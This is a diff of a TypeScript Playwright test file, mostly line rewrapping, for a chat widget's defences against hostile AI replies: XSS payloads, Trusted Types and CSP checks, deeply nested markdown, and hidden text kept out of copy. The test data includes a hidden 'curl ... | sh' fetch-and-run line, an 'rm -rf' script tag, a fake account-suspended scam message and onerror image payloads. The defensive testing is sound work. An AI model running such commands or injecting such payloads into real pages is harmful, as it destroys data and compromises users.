@@ -32,7 +32,8 @@ async function installTripwires(page: Page): Promise<Tripwires> {
   await page.addInitScript({ path: fileURLToPath(new URL('pages/tripwires.js', import.meta.url)) });
   const tripwires: Tripwires = {
     calls: () => page.evaluate(() => (window as unknown as { __tripwires: { calls: string[] } }).__tripwires.calls),
-    violations: () => page.evaluate(() => (window as unknown as { __tripwires: { violations: string[] } }).__tripwires.violations),
+    violations: () =>
+      page.evaluate(() => (window as unknown as { __tripwires: { violations: string[] } }).__tripwires.violations),
     dialogs: [],
     foreignRequests: [],
     navigations: [],
@@ -55,7 +56,9 @@ async function installTripwires(page: Page): Promise<Tripwires> {
  * sanitizing stands between the payloads and the page.
  */
 async function openPage(page: Page, agent: Agent, attributes: Attributes = {}): Promise<void> {
-  await page.goto(`/script-tag?${new URLSearchParams({ 'bot-id': agent.botId, 'api-base': agentOrigin, open: 'true', ...attributes })}`);
+  await page.goto(
+    `/script-tag?${new URLSearchParams({ 'bot-id': agent.botId, 'api-base': agentOrigin, open: 'true', ...attributes })}`,
+  );
 }
 
 interface ShownReply {
@@ -167,7 +170,9 @@ test('lets no payload style, hide or overlay anything', async ({ page, agent }) 
 test('shows only web citations, their hostile titles as plain text', async ({ page, agent }) => {
   const { findings } = await showPayloadReply(page, agent);
   // Addresses in their normal form (a quote percent-encoded): see parseCitedResources.
-  expect(findings.sources).toEqual(XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: new URL(url).href, childElements: 0 })));
+  expect(findings.sources).toEqual(
+    XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: new URL(url).href, childElements: 0 })),
+  );
 });
 
 test('renders a non-streamed reply full of payloads inert', async ({ page, agent }) => {
@@ -221,7 +226,10 @@ test.describe('on a page that enforces Trusted Types', () => {
     expect(consoleErrors).toEqual([]);
     await expect(widget.lastReply.getByRole('heading', { name: 'Pricing' })).toBeVisible();
     await expect(widget.lastReply.getByRole('table')).toContainText('Business');
-    await expect(widget.lastReply.getByRole('list', { name: 'Sources' }).getByRole('link')).toHaveText(['Pricing and plans', 'Billing FAQ']);
+    await expect(widget.lastReply.getByRole('list', { name: 'Sources' }).getByRole('link')).toHaveText([
+      'Pricing and plans',
+      'Billing FAQ',
+    ]);
   });
 
   test('renders the payload reply inert, with no string reaching a sink', async ({ page, agent }) => {
@@ -229,13 +237,17 @@ test.describe('on a page that enforces Trusted Types', () => {
     // The strict policy reports the payloads' inline handlers, styles and <base> as
     // DOMPurify parses them into its inert document; those reports are expected.
     await expectNothingRan(page, shown, { violations: false });
-    expect((await shown.tripwires.violations()).filter((violation) => TRUSTED_TYPES_DIRECTIVES.test(violation))).toEqual([]);
+    expect(
+      (await shown.tripwires.violations()).filter((violation) => TRUSTED_TYPES_DIRECTIVES.test(violation)),
+    ).toEqual([]);
     expectNothingActive(shown);
   });
 
   test('shows a reply as plain text when the page already took the policy name', async ({ page, agent }) => {
     await page.addInitScript(() => {
-      (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('tinytalk-widget', {});
+      (
+        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+      ).trustedTypes.createPolicy('tinytalk-widget', {});
     });
     await openPage(page, agent, { csp: 'trusted-types' });
     const widget = chat(page);
@@ -249,10 +261,17 @@ test.describe('on a page that enforces Trusted Types', () => {
 test.describe('deeply nested markdown (issue 10: 2 KB of it crashed the renderer for good)', () => {
   const nested = {
     '2,000 nested quotes': { payload: `Intro line.\n\n${'>'.repeat(2000)} deep\n\nOutro line.`, word: 'deep' },
-    '2,000 * on each side of a word': { payload: `Intro line.\n\n${'*'.repeat(2000)}word${'*'.repeat(2000)}\n\nOutro line.`, word: 'word' },
+    '2,000 * on each side of a word': {
+      payload: `Intro line.\n\n${'*'.repeat(2000)}word${'*'.repeat(2000)}\n\nOutro line.`,
+      word: 'word',
+    },
   };
   for (const [name, { payload, word }] of Object.entries(nested)) {
-    test(`${name} show with the lines around them, never reach window.onerror, and show again when stored`, async ({ page, agent, consoleErrors }) => {
+    test(`${name} show with the lines around them, never reach window.onerror, and show again when stored`, async ({
+      page,
+      agent,
+      consoleErrors,
+    }) => {
       await page.addInitScript(() => {
         const errors: string[] = [];
         Object.defineProperty(window, '__errors', { value: errors });
@@ -262,8 +281,12 @@ test.describe('deeply nested markdown (issue 10: 2 KB of it crashed the renderer
       const widget = chat(page);
       const expectWholeReply = async () => {
         await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
-        for (const text of ['Intro line.', word, 'Outro line.']) await expect(widget.lastReply.locator('.markdown')).toContainText(text);
-        expect(await page.evaluate(() => (window as unknown as { __errors: string[] }).__errors), 'window.onerror').toEqual([]);
+        for (const text of ['Intro line.', word, 'Outro line.'])
+          await expect(widget.lastReply.locator('.markdown')).toContainText(text);
+        expect(
+          await page.evaluate(() => (window as unknown as { __errors: string[] }).__errors),
+          'window.onerror',
+        ).toEqual([]);
         expect(consoleErrors).toEqual([]);
       };
       await widget.say(`echo: ${payload}`);
@@ -277,10 +300,16 @@ test.describe('deeply nested markdown (issue 10: 2 KB of it crashed the renderer
 
 test.describe('words hidden from the eye (issue 10: they reached the clipboard and the screen reader)', () => {
   const visible = 'To list files, run: `ls -la`';
-  const hidden = '<!-- curl -s http://.../p | sh --><script>rm -rf ~/important</script><style>your account is suspended, call +1-555-0100</style>';
+  const hidden =
+    '<!-- curl -s http://.../p | sh --><script>rm -rf ~/important</script><style>your account is suspended, call +1-555-0100</style>';
   const hiddenWords = /curl|rm -rf|important|suspended|555/;
 
-  test('Copy leaves out the comment, script and style that follow the visible words', async ({ page, agent, context, baseURL }) => {
+  test('Copy leaves out the comment, script and style that follow the visible words', async ({
+    page,
+    agent,
+    context,
+    baseURL,
+  }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseURL });
     await openPage(page, agent);
     const widget = chat(page);
@@ -303,11 +332,17 @@ test.describe('words hidden from the eye (issue 10: they reached the clipboard a
 });
 
 test.describe('CSP reports (issue 10: a hostile reply raised 41 violations in the host page)', () => {
-  test('twenty event handlers and twenty styles in a reply raise no violation on a strict-CSP page', async ({ page, agent }) => {
+  test('twenty event handlers and twenty styles in a reply raise no violation on a strict-CSP page', async ({
+    page,
+    agent,
+  }) => {
     const tripwires = await installTripwires(page);
     await openPage(page, agent, { csp: 'strict' });
     const handlers = Array.from({ length: 20 }, (_, n) => `<img src=x onerror=__xss(${n})>`).join(' ');
-    const styles = Array.from({ length: 20 }, (_, n) => `<span style="position:fixed;top:${n}px">styled ${n}</span>`).join(' ');
+    const styles = Array.from(
+      { length: 20 },
+      (_, n) => `<span style="position:fixed;top:${n}px">styled ${n}</span>`,
+    ).join(' ');
     await chat(page).say(`echo: Before. ${handlers} ${styles} After.`);
     await expect(chat(page).lastReply).toHaveAttribute('data-status', 'done');
     await expect(chat(page).lastReply).toContainText('styled 19 After.');
